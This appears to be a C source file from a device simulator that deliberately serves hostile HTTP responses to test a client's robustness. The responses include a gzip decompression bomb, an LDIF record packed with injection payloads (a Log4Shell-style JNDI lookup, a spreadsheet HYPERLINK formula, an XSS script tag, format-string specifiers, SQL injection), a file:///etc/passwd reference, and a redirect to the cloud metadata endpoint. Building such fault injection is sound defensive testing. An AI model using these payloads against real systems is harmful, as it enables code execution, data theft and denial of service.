// SPDX-License-Identifier: Apache-2.0
/* Exports that are meant for whoever reads them (devices.md 14.5, mp_08 to mp_17). */
#include <string.h>

#include "services/simulator/sim.h"

/* Bits of a deflate stream, lowest first. */
struct bits {
	struct buf *out;
	uint32_t held, n;
};

static void put(struct bits *b, uint32_t value, uint32_t n)
{
	for (uint32_t i = 0; i < n; i++) {
		b->held |= (value >> i & 1) << b->n;
		if (++b->n == 8) {
			buf_addc(b->out, (char)b->held);
			b->held = b->n = 0;
		}
	}
}

/* 64 MiB of the same letter: a literal, then "258 times the one before" over and over. The codes
 * are the fixed ones of RFC 1951, turned round. */
static void bomb(struct http_request *r, const char *type)
{
	static const uint8_t head[] = {0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3};
	struct buf b = BUF_INIT;
	struct bits bits = {.out = &b};

	buf_add(&b, head, sizeof(head));
	put(&bits, 1 | 1 << 1, 3); /* the last block, fixed codes */
	put(&bits, 0x89, 8);       /* 'a' */
	for (uint32_t i = 0; i < (64u << 20) / 258; i++) {
		put(&bits, 0xa3, 8); /* length 258 */
		put(&bits, 0, 5);    /* distance 1 */
	}
	put(&bits, 0, 7 + 7);
	http_set_header(r, "Content-Encoding", "gzip");
	http_respond(r, 200, type, buf_span(&b));
	buf_fini(&b);
}

static void with_record(
	struct http_request *r, const char *type, struct span body, const char *record)
{
	struct buf b = BUF_INIT;

	buf_add(&b, body.p, body.n);
	buf_adds(&b, record);
	http_respond(r, 200, type, buf_span(&b));
	buf_fini(&b);
}

static void endless_line(struct http_request *r, const char *type, struct span body)
{
	struct buf b = BUF_INIT;

	buf_adds(&b, "dn: 900\r\ncn:: ####not=base64\r\nmailaddress:< file:///etc/passwd\r\ncn: a");
	for (int i = 0; i < 300000; i++)
		buf_adds(&b, "\r\n folded");
	with_record(r, type, body, buf_str(&b));
	buf_fini(&b);
}

static const char RECORD[] =
	"subdbid: 1\r\ndn: 901\r\ncn: =HYPERLINK(\"http://192.0.2.1/\") <script>alert(1)</script> "
	"%s%n%x ;DROP TABLE entry\r\ncnread: ${jndi:ldap://192.0.2.1/a}\r\n"
	"mailaddress: '\"/><b>@example.com\r\nenablepartial: false\r\nprotocol: smtp\r\n"
	"accesscode: 0\r\nobjectclass: top\r\nobjectclass: extensibleobject\r\n"
	"objectclass: email\r\n\r\n";

/* No text: a NUL, bytes of no charset, a second byte order mark and another one's, a line that is a
 * million columns wide. */
static void no_text(struct http_request *r, const char *type, struct span body)
{
	static const char BAD[] = "\xef\xbb\xbf\xff\xfe"
				  "dn: 902\r\ncn: \"a\0b\x81\xff\xc0\xaf\r\n";
	struct buf b = BUF_INIT;

	buf_add(&b, body.p, body.n);
	buf_add(&b, BAD, sizeof(BAD) - 1);
	buf_adds(&b, "cnread: ");
	for (int i = 0; i < 1000000; i++)
		buf_adds(&b, "\",");
	buf_adds(&b, "\r\n\r\n");
	http_respond(r, 200, type, buf_span(&b));
	buf_fini(&b);
}

/* The first record once more, as another entry of the same number. */
static void doubled(struct http_request *r, const char *type, struct span body)
{
	const char *text = (const char *)body.p;
	const char *from = memmem(text, body.n, "subdbid:", 8);
	const char *to = from ? memmem(from, body.n - (size_t)(from - text), "\r\n\r\n", 4) : NULL;
	struct buf b = BUF_INIT;

	buf_add(&b, body.p, body.n);
	if (to)
		buf_add(&b, from, (size_t)(to - from) + 4);
	http_respond(r, 200, type, buf_span(&b));
	buf_fini(&b);
}

static void redirect(struct http_request *r, const char *location)
{
	http_set_header(r, "Location", location);
	http_respond(r, 302, "text/html", (struct span){.n = 0});
}

bool hostile_text(struct device *d, struct http_request *r, const char *type, struct span body)
{
	switch ((int)d->fault.mp) {
	case MP_08:
		bomb(r, type);
		return true;
	case MP_13:
		endless_line(r, type, body);
		return true;
	case MP_14:
		no_text(r, type, body);
		return true;
	case MP_24_TWICE:
		doubled(r, type, body);
		return true;
	case MP_15:
		with_record(r, type, body, RECORD);
		return true;
	case MP_16:
		redirect(r, "http://169.254.169.254/latest/meta-data/");
		return true;
	case MP_17:
		redirect(r, http_path(r));
		return true;
	default:
		return false;
	}
}
